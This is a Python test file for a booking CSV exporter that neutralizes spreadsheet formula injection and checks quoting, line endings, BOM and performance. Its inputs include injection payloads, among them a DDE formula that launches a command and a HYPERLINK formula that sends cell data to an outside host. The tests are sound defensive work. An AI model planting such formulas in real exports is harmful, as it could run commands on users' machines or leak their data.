"""Bookings as CSV: what a spreadsheet shows, and what a program reads back."""

from __future__ import annotations

import csv
import io
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.csv_export import HEADER, header, lines, neutral

DANGEROUS = "=+-@＝＋－＠\t\r\n"
# Texts in which what matters is likely: starts of formulas, what is quoted, white space of all kinds.
CELLS = st.text(
    st.sampled_from(f"{DANGEROUS}'\"'\",; \u00a0\u3000\x0bax1|") | st.characters(codec="utf-8"), max_size=12
)


def read(written: bytes, encoding: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(written.decode(encoding), newline=""), strict=True))


def original(cell: str) -> str:
    """The inverse of `neutral`."""
    return cell[1:] if re.match(r"'+(?:\s*[=+\-@＝＋－＠]|[\t\r\n])", cell) else cell


def starts_formula(cell: str) -> bool:
    """Whether a spreadsheet could compute, told without the module's own pattern."""
    return cell.startswith(tuple("\t\r\n")) or cell.strip().startswith(tuple("=+-@＝＋－＠"))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        '=HYPERLINK("https://example.com?"&A1,"click")',
        "=cmd|'/C calc'!A0",
        "+49 170 1234567",
        "-2+3",
        "- a list",
        "@SUM(1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠x",
        "\tx",
        "\rx",
        "\nx",
        "\t",
        "  =1",
        "\u00a0=1",
        "\u3000@x",
        "\x0b+1",
        " \n=1",
        "'=1",
        "''=1",
        "'\tx",
        "' =1",
    ],
)
def test_what_could_be_a_formula_gets_one_apostrophe(cell: str) -> None:
    assert neutral(cell) == "'" + cell
    assert read(lines([[cell, "x"]])) == [["'" + cell, "x"]]


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "Ann Client",
        "'s-Hertogenbosch",
        "'",
        "''",
        "' '=1",
        "  two blanks before",
        " \tx",
        "a=1",
        "1-2",
        "0049 170 1234567",
        "(+49) 170",
        "ann@example.com",
        "https://meet.example.com/a?b=c",
        "|calc",
        "%0A",
        'say "hello"',
        "a, b; c",
        "one\ntwo\r\nthree\rfour",
        "Zoë 👩‍👩‍👧 🇳🇱",
        "שלום עולם",
        "\u202eevil\u202c",
        "–",  # a dash that is no minus
    ],
)
def test_all_else_is_written_as_it_is(cell: str) -> None:
    assert neutral(cell) == cell
    assert read(lines([[cell, "x"]])) == [[cell, "x"]]


def test_quotes_stand_only_where_needed_and_lines_end_in_crlf() -> None:
    rows: list[list[str | None]] = [["a", None, 'b"c', "d,e", "f\ng", " h "], ["é", "", "", "", "", "i"]]
    assert lines(rows) == 'a,,"b""c","d,e","f\ng", h \r\né,,,,,i\r\n'.encode()
    assert lines([]) == b""


def test_nul_is_kept() -> None:
    """Postgres knows none; should one come all the same, nothing is lost and nothing breaks."""
    assert read(lines([["a\0b", "\0"]])) == [["a\0b", "\0"]]


@pytest.mark.parametrize(("bom", "encoding"), [(True, "utf-8-sig"), (False, "utf-8")])
def test_the_header_comes_first(bom: bool, encoding: str) -> None:
    assert header(bom).startswith(b"\xef\xbb\xbf") is bom
    assert read(header(bom) + lines([["é"] * len(HEADER)]), encoding) == [list(HEADER), ["é"] * len(HEADER)]
    assert len(set(HEADER)) == len(HEADER) == 23


@given(st.lists(st.lists(CELLS | st.none(), min_size=2, max_size=5)), st.booleans())
def test_what_is_read_back_is_what_was_written(rows: list[list[str | None]], bom: bool) -> None:
    shown = read(header(bom) + lines(rows), "utf-8-sig" if bom else "utf-8")[1:]
    assert not [cell for row in shown for cell in row if starts_formula(cell)]
    assert [[original(cell) for cell in row] for row in shown] == [[cell or "" for cell in row] for row in rows]


@given(CELLS)
def test_at_most_one_apostrophe_is_added(cell: str) -> None:
    assert neutral(cell) in (cell, "'" + cell)
    assert original(neutral(cell)) == cell
    assert not starts_formula(neutral(cell))
    assert read(lines([[cell, ""]]))[0][0] == neutral(cell)  # the quick look at the first character misses nothing


def test_it_keeps_up_with_a_large_export() -> None:
    """200,000 rows in about a second and a half; here a tenth of them, with room for a busy machine."""
    row = ["2026-12-01T09:00:00Z", "Ann Client", "ann@example.com", "+491701234567", None, "a, b"] * 4
    begun = time.perf_counter()
    lines([row] * 20_000)
    assert time.perf_counter() - begun < 1
